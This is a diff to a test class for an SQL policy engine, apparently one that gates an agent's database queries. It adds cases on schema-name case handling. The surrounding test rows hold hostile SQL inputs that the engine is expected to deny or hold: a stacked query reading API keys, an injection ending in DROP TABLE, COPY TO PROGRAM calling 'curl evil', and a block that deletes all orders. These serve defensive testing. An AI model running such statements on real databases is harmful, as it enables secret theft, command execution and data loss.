@@ -66,6 +66,9 @@ class PolicyDecisionTest {
         row("SELECT 1; SELECT * FROM internal.api_keys", "Deny", "deny.internal"),
         row("SELECT 'a\\'; DROP TABLE public.customers; --'", "Hold", "agent.hold-ddl"),
         row("SELECT * FROM customers", "Deny", "default-deny"),
+        row("SELECT * FROM \"Public\".customers", "Deny", "default-deny"),
+        row("SELECT * FROM PUBLIC.customers", "Allow", "agent.read-write"),
+        row("select * from public.customers", "Allow", "agent.read-write"),
         row("SELEC 1", "Deny", "default-deny"),
         row("COPY public.orders TO PROGRAM 'curl evil'", "Deny", "default-deny"),
         row("DO $$ BEGIN DELETE FROM public.orders; END $$", "Deny", "default-deny"));
